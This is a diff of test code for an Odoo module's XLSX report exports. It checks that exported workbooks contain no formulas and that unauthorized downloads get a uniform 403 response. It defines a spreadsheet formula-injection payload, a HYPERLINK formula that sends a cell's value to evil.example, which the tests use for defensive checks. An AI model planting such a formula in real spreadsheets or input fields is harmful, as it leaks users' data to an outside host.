@@ -6,9 +6,7 @@ from odoo import Command
 from odoo.exceptions import AccessError, UserError
 from odoo.tests import Form, HttpCase, tagged
 
-from ..controllers.main import register_workbook
-from ..report.lakip_xlsx import capaian_workbook
-from .common import LakipCommon
+from .common import CAPAIAN_XLSX, REGISTER_XLSX, WORKSHEET_XLSX, LakipCommon
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&C5,"Klik")'
 
@@ -225,11 +223,9 @@ class TestXlsxNoFormula(LakipCommon):
         self.assertIn(b"HYPERLINK", zipfile.ZipFile(io.BytesIO(worksheet_file)).read(
             "xl/worksheets/sheet1.xml"
         ))  # fmt: skip
-        self.assertEqual(
-            formulas(capaian_workbook(self.report, self.report._get_capaian_rows())), []
-        )
+        self.assertEqual(formulas(self._render_xlsx(CAPAIAN_XLSX, self.report)), [])
         self.sop.name = HOSTILE
-        self.assertEqual(formulas(register_workbook(self.sop)), [])
+        self.assertEqual(formulas(self._render_xlsx(REGISTER_XLSX, self.sop)), [])
 
 
 @tagged("post_install", "-at_install")
@@ -241,15 +237,19 @@ class TestWorksheetDownloadProbe(HttpCase, LakipCommon):
         self.report.with_user(self.user_kasubag).action_send_worksheets()
         sheet = self._sheet(self.dept_unit_1)
         self.authenticate("sop_kasubag_b", "sop_kasubag_b")
-        forbidden = self.url_open(f"/lakip/worksheet/{sheet.id}/xlsx")
-        missing = self.url_open("/lakip/worksheet/987654321/xlsx")
-        self.assertEqual(forbidden.status_code, 404)
-        self.assertEqual(missing.status_code, 404)
-        self.assertEqual(forbidden.content, missing.content)
-        report = self.url_open(f"/lakip/report/{self.report.id}/capaian.xlsx")
-        self.assertEqual(report.status_code, 404)
+        forbidden = self.url_open(self._xlsx_url(WORKSHEET_XLSX, sheet))
+        missing = self.url_open(self._xlsx_url(WORKSHEET_XLSX, sheet.browse(987654321)))
+        self.assertEqual(forbidden.status_code, 403)
+        self.assertEqual(missing.status_code, 403)
+        # The error page differs only by its form token, which carries the time.
+        token = re.compile(rb'csrf_token: "[0-9a-fo]+"')
+        self.assertEqual(token.sub(b"", forbidden.content), token.sub(b"", missing.content))
+        self.assertIn(b"You cannot download this file", forbidden.content)
+        report = self.url_open(self._xlsx_url(CAPAIAN_XLSX, self.report))
+        self.assertEqual(report.status_code, 403)
+        self.assertNotEqual(report.content[:2], b"PK")
         # The unit's own staff downloads it.
         self.authenticate("lakip_unit_1", "lakip_unit_1")
-        allowed = self.url_open(f"/lakip/worksheet/{sheet.id}/xlsx")
+        allowed = self.url_open(self._xlsx_url(WORKSHEET_XLSX, sheet))
         self.assertEqual(allowed.status_code, 200)
         self.assertEqual(allowed.content[:2], b"PK")
